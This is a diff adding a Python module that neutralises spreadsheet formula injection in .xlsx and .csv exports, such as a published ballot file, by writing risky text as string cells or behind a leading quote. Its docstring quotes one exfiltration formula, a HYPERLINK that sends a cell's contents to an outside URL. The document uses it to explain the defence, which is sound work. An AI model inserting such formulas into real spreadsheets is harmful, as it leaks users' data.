@@ -1,0 +1,58 @@
+"""Spreadsheets written from people's text: the text stays text, never a formula that Excel or WPS
+runs when the file is opened (a suggestion `=HYPERLINK("http://…?leak="&A1,"click")` would
+otherwise send the sheet's contents away with one click).
+
+.xlsx: openpyxl stores a string starting with "=" as a formula and "#N/A"-like strings as error
+values; `append_row` writes such strings as string cells instead. Numbers and dates stay numbers
+and dates.
+
+.csv: a spreadsheet evaluates a cell starting with = + - @, tab or CR; `csv_row` puts a "'" before
+such text. A value that already starts with "'" gets one more, so `csv_read` gives back exactly
+what was written (the published ballot file is read back to recount a poll). Plain numbers such as
+"-1.5" are left as they are: a spreadsheet reads them as the numbers they are.
+"""
+
+import re
+
+from openpyxl.cell import WriteOnlyCell
+from openpyxl.cell.cell import ERROR_CODES
+
+CSV_QUOTE = "'"
+CSV_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", CSV_QUOTE)
+_PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?\Z")
+
+
+def append_row(sheet, values):
+    """Append `values` to an openpyxl worksheet (write-only or not), text as string cells."""
+    sheet.append([_cell(sheet, value) for value in values])
+
+
+def _cell(sheet, value):
+    # Only the strings openpyxl would turn into a formula or an error need a cell of their own;
+    # wrapping every string would slow exports of a million rows for nothing.
+    if isinstance(value, str) and (value.startswith("=") or value in ERROR_CODES):
+        cell = WriteOnlyCell(sheet, value)
+        cell.data_type = "s"
+        return cell
+    return value
+
+
+def csv_row(values):
+    """`values` as a CSV row a spreadsheet shows as they are, without running any of them."""
+    return [csv_text(value) for value in values]
+
+
+def csv_text(value):
+    """One CSV value: text starting as a formula would, behind a "'"; anything else unchanged."""
+    if (
+        isinstance(value, str)
+        and value.startswith(CSV_FORMULA_STARTS)
+        and not _PLAIN_NUMBER.match(value)
+    ):
+        return CSV_QUOTE + value
+    return value
+
+
+def csv_read(value):
+    """A value read from a CSV file `csv_row` wrote, as it was before."""
+    return value[1:] if value.startswith(CSV_QUOTE) else value
